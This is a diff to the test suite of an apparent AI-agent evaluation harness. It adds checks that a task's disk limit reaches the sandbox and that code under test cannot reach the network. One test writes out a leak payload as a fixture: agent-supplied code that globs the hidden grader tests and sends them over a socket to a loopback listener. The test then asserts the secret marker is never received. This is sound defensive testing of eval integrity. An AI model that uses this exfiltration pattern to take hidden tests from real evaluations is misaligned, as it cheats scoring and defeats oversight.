@@ -5,9 +5,12 @@ nothing, never an excluded run (infra or scorer error)."""
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import shutil
+import socket
 import tempfile
 import textwrap
+import threading
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -18,7 +21,7 @@ from evalfleet.execution.attempt import AttemptOutcome
 from evalfleet.sandbox import BwrapSandboxProvider, LocalSandboxProvider
 from evalfleet.spec.humaneval import load_humaneval
 from evalfleet.spec.loaders import builtin_suite_dir, load_suite
-from evalfleet.spec.task import ScorerSpec, Task
+from evalfleet.spec.task import Limits, ScorerSpec, Task
 from evalfleet.testing.agents import grade
 
 HAVE_BWRAP = shutil.which("bwrap") is not None
@@ -241,3 +244,101 @@ def test_the_error_class_cannot_be_an_alias_of_the_bare_error(alias: str, provid
     passed every assertRaises(CalcError) while evaluate still leaked ZeroDivisionError."""
     package = f"from .evaluator import evaluate\nCalcError = {alias}\n"
     assert graded(run(repo_task, provider, files={"calc/__init__.py": package})) <= HONEST
+
+
+# --- per-run limits and the network ----------------------------------------------------------
+
+def _disk_task(disk_mb: int) -> Task:
+    return Task(
+        id="disk", input="leave a 64 MB file named big", limits=Limits(disk_mb=disk_mb),
+        files={"README": "x"},
+        hidden_files={"test_disk.py": textwrap.dedent("""\
+            import os, unittest
+
+            class DiskTest(unittest.TestCase):
+                def test_big(self):
+                    self.assertGreaterEqual(os.path.getsize("big"), 64 << 20)
+            """)},
+        scorer=ScorerSpec(kind="tests", args={"timeout_s": 10}))
+
+
+def test_the_tasks_disk_limit_holds(provider: Any) -> None:
+    """Task.limits.disk_mb was never handed to the sandbox: every run had the default 1 GB."""
+    dd = ("dd if=/dev/zero of=big bs=1M count=64",)
+    assert graded(run(_disk_task(16), provider, commands=dd)) == 0.0
+    assert graded(run(_disk_task(256), provider, commands=dd)) == 1.0
+
+
+class _Listener:
+    """A TCP server on the host's loopback that records what it is sent."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(16)
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.received: list[bytes] = []
+        self.stop = threading.Event()
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self) -> None:
+        while not self.stop.is_set():
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            with conn:
+                conn.settimeout(2)
+                chunks = []
+                with contextlib.suppress(OSError):
+                    while data := conn.recv(65536):
+                        chunks.append(data)
+                self.received.append(b"".join(chunks))
+
+    def close(self) -> None:
+        self.stop.set()
+        self.thread.join()
+        self.sock.close()
+
+
+def test_code_under_test_cannot_send_the_hidden_tests_out(provider: Any) -> None:
+    """A task may give the agent the network; the scoring sandbox holds the hidden tests and
+    must not have it, or the agent's code could send them to its later runs."""
+    listener = _Listener()
+    send = textwrap.dedent(f"""\
+        import glob, socket
+        def send(data):
+            try:
+                with socket.create_connection(("127.0.0.1", {listener.port}), timeout=2) as s:
+                    s.sendall(data)
+            except OSError:
+                pass
+        """)
+    leak = send + "send(b''.join(open(f, 'rb').read() for f in glob.glob('test_*.py')))\n"
+    base = Task(
+        id="net", input="make f return 2", network=True,
+        files={"pkg/__init__.py": "def f():\n    return 1\n"},
+        hidden_files={"test_net.py": textwrap.dedent("""\
+            import unittest
+            from pkg import f
+
+            class NetTest(unittest.TestCase):  # SECRET-HIDDEN-TEST
+                def test_two(self):
+                    self.assertEqual(f(), 2)
+            """)},
+        scorer=ScorerSpec(kind="tests", args={"timeout_s": 10}))
+    try:
+        out = run(base, provider, files={"pkg/__init__.py": leak, "hello.py": send},
+                  commands=("python3 -c 'import hello; hello.send(b\"agent-stage\")'",))
+        assert graded(out) == 0.0
+        # Answered in one turn (no agent sandbox), the answer's code is under test too.
+        single = base.model_copy(update={"scorer": ScorerSpec(kind="tests", args={
+            "timeout_s": 10, "answer_file": "pkg/__init__.py", "tests": ["test_net.py"],
+            "expected_tests": ["test_net.NetTest.test_two"]})})
+        assert graded(run(single, provider, answer=leak)) == 0.0
+    finally:
+        listener.close()
+    assert b"agent-stage" in listener.received  # the agent stage had the network
+    assert not any(b"SECRET-HIDDEN-TEST" in r for r in listener.received)
